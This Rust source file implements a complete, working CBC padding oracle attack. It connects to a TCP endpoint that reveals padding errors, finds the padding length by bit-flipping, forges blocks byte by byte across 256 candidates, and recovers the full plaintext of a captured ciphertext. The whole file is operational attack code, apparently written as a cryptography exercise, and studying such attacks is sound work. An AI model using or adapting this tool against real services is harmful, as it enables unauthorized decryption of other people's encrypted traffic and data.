use crate::cryptography::mode_of_operation::BLOCK_SIZE;
use std::fmt;
use std::io::{self, Read, Write};
use std::net::{Shutdown, TcpStream};

/// A padding oracle reachable over TCP. It accepts a hex-encoded ciphertext
/// and answers with a response that contains `error_signature` exactly when
/// the decrypted padding is invalid.
pub struct OracleEndpoint {
    pub hostname: String,
    pub port: u16,
    pub error_signature: Vec<u8>,
}

impl OracleEndpoint {
    pub fn new(hostname: &str, port: u16, error_signature: &[u8]) -> Self {
        Self {
            hostname: hostname.to_string(),
            port,
            error_signature: error_signature.to_vec(),
        }
    }
}

#[derive(Debug)]
pub enum OracleError {
    Network(io::Error),
    MalformedCiphertext(&'static str),
    /// All 256 candidate bytes were rejected at this position, so the
    /// endpoint does not behave like a padding oracle.
    Exhausted { block: usize, position: usize },
}

impl fmt::Display for OracleError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            OracleError::Network(e) => write!(f, "oracle connection failed: {}", e),
            OracleError::MalformedCiphertext(reason) => {
                write!(f, "malformed ciphertext: {}", reason)
            }
            OracleError::Exhausted { block, position } => write!(
                f,
                "oracle accepted no candidate for byte {} of block {}",
                position, block
            ),
        }
    }
}

impl From<io::Error> for OracleError {
    fn from(e: io::Error) -> Self {
        OracleError::Network(e)
    }
}

/// Recovers the plaintext behind a CBC ciphertext by querying a padding
/// oracle, one forged block pair per connection.
///
/// The ciphertext must be lowercase hex whose first block is the IV (or the
/// block chained into the first real block); that block is never recovered.
/// Needs one blocking round-trip per candidate byte, at most
/// `256 * 16 * number_of_blocks` in total.
pub fn attack(cipher_hex: &str, endpoint: &OracleEndpoint) -> Result<Vec<u8>, OracleError> {
    let bytes = hex::decode(cipher_hex)
        .map_err(|_| OracleError::MalformedCiphertext("not a hex string"))?;

    if bytes.len() % BLOCK_SIZE != 0 {
        return Err(OracleError::MalformedCiphertext(
            "length is not a multiple of the block size",
        ));
    }
    if bytes.len() < 2 * BLOCK_SIZE {
        return Err(OracleError::MalformedCiphertext(
            "need at least two blocks, the first carries the IV",
        ));
    }

    let blocks = bytes
        .chunks_exact(BLOCK_SIZE)
        .map(|chunk| chunk.try_into().unwrap())
        .collect();

    AttackSession::new(endpoint, blocks).run()
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum AttackState {
    DiscoverPadding,
    RecoverByte { block: usize, position: usize },
    BlockDone { block: usize },
    Complete,
    Exhausted { block: usize, position: usize },
}

struct AttackSession<'a> {
    endpoint: &'a OracleEndpoint,
    /// The untouched wire blocks, block 0 being the IV.
    blocks: Vec<[u8; BLOCK_SIZE]>,
    /// Plaintext of wire block `i + 1` once recovered.
    recovered: Vec<[u8; BLOCK_SIZE]>,
    pad_len: usize,
    state: AttackState,
}

impl<'a> AttackSession<'a> {
    fn new(endpoint: &'a OracleEndpoint, blocks: Vec<[u8; BLOCK_SIZE]>) -> Self {
        let recovered = vec![[0; BLOCK_SIZE]; blocks.len() - 1];
        Self {
            endpoint,
            blocks,
            recovered,
            pad_len: 0,
            state: AttackState::DiscoverPadding,
        }
    }

    fn run(mut self) -> Result<Vec<u8>, OracleError> {
        loop {
            self.state = match self.state {
                AttackState::DiscoverPadding => {
                    self.discover_padding()?;
                    self.enter_block(1)
                }
                AttackState::RecoverByte { block, position } => {
                    match self.recover_byte(block, position)? {
                        Some(byte) => {
                            self.recovered[block - 1][position] = byte;
                            match position.checked_sub(1) {
                                Some(position) => AttackState::RecoverByte { block, position },
                                None => AttackState::BlockDone { block },
                            }
                        }
                        None => AttackState::Exhausted { block, position },
                    }
                }
                AttackState::BlockDone { block } => {
                    if block + 1 < self.blocks.len() {
                        self.enter_block(block + 1)
                    } else {
                        AttackState::Complete
                    }
                }
                AttackState::Complete => {
                    let mut plain = self.recovered.concat();
                    plain.truncate(plain.len() - self.pad_len);
                    return Ok(plain);
                }
                AttackState::Exhausted { block, position } => {
                    return Err(OracleError::Exhausted { block, position })
                }
            };
        }
    }

    /// First position to recover within a block. The padding of the final
    /// block is already known from discovery, so recovery starts just before
    /// it; a fully padded final block leaves nothing to recover.
    fn enter_block(&self, block: usize) -> AttackState {
        let known = if block == self.blocks.len() - 1 {
            self.pad_len
        } else {
            0
        };
        match (BLOCK_SIZE - 1).checked_sub(known) {
            Some(position) => AttackState::RecoverByte { block, position },
            None => AttackState::BlockDone { block },
        }
    }

    /// Flips one bit at each offset of the block before the final block.
    /// Message bytes absorb the flip, padding bytes do not, so the first
    /// offset the oracle rejects marks where the padding starts.
    fn discover_padding(&mut self) -> Result<(), OracleError> {
        let target = self.blocks.len() - 1;
        let prev = self.blocks[target - 1];

        for offset in 0..BLOCK_SIZE {
            let mut forged = prev;
            forged[offset] ^= 1;

            if self.padding_rejected(target, &forged)? {
                let pad_len = BLOCK_SIZE - offset;
                self.pad_len = pad_len;
                self.recovered[target - 1][offset..].fill(pad_len as u8);
                return Ok(());
            }
        }

        // nothing rejected: the plaintext carries no padding
        Ok(())
    }

    /// Tries all 256 values for the forged byte at `position`, with the
    /// already recovered tail forced to the pad value `16 - position`. The
    /// accepted value discloses one plaintext byte.
    fn recover_byte(
        &self,
        target: usize,
        position: usize,
    ) -> Result<Option<u8>, OracleError> {
        let pad = (BLOCK_SIZE - position) as u8;
        let prev = self.blocks[target - 1];
        let plain = self.recovered[target - 1];

        let mut forged = prev;
        for q in position + 1..BLOCK_SIZE {
            forged[q] = prev[q] ^ plain[q] ^ pad;
        }

        for candidate in 0..=255 {
            forged[position] = candidate;
            if !self.padding_rejected(target, &forged)? {
                return Ok(Some(candidate ^ pad ^ prev[position]));
            }
        }

        Ok(None)
    }

    /// One oracle round-trip: sends the wire blocks up to `target` with the
    /// block before it replaced by `forged`, reports whether the response
    /// carries the error signature.
    fn padding_rejected(
        &self,
        target: usize,
        forged: &[u8; BLOCK_SIZE],
    ) -> Result<bool, OracleError> {
        let mut wire = Vec::with_capacity((target + 1) * BLOCK_SIZE);
        for (i, block) in self.blocks[..=target].iter().enumerate() {
            if i == target - 1 {
                wire.extend_from_slice(forged);
            } else {
                wire.extend_from_slice(block);
            }
        }

        let mut stream =
            TcpStream::connect((self.endpoint.hostname.as_str(), self.endpoint.port))?;
        stream.write_all(hex::encode(wire).as_bytes())?;
        stream.shutdown(Shutdown::Write)?;

        let mut response = Vec::new();
        stream.read_to_end(&mut response)?;

        let signature = self.endpoint.error_signature.as_slice();
        Ok(!signature.is_empty()
            && response.windows(signature.len()).any(|window| window == signature))
    }
}
